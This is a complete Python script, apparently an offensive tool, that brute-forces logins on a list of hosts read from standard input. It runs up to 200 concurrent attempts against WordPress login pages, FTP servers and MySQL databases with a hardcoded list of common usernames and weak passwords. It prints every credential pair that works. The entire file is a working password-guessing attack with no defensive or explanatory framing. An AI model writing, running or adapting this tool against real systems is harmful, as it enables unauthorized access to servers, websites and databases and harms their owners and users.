import asyncio
import itertools
import sys

import aiohttp
import aioftp
import aiomysql

USERS = ["admin", "root", "test", "oracle", "postgres", "www"]
PASSWORDS = ["admin", "123456", "P@ssw0rd", "Spring2024!", "{user}", "{user}123", ""]
sem = asyncio.Semaphore(200)


async def web(host, u, p):
    async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=6)) as s:
        async with s.post(f"http://{host}/wp-login.php", data={"log": u, "pwd": p}, allow_redirects=False) as r:
            return "wordpress_logged_in" in r.headers.get("Set-Cookie", "")


async def ftp(host, u, p):
    async with aioftp.Client.context(host, 21, u, p):
        return True


async def sql(host, u, p):
    c = await aiomysql.connect(host=host, user=u, password=p, connect_timeout=4)
    c.close()
    return True


async def attempt(fn, host, u, p):
    async with sem:
        try:
            if await fn(host, u, p):
                print(fn.__name__, host, u, p, flush=True)
        except Exception:
            return


async def main():
    hosts = [h.strip() for h in sys.stdin if h.strip()]
    jobs = (attempt(f, h, u, p.format(user=u)) for p, h, u, f in itertools.product(PASSWORDS, hosts, USERS, (web, ftp, sql)))
    await asyncio.gather(*jobs)


asyncio.run(main())
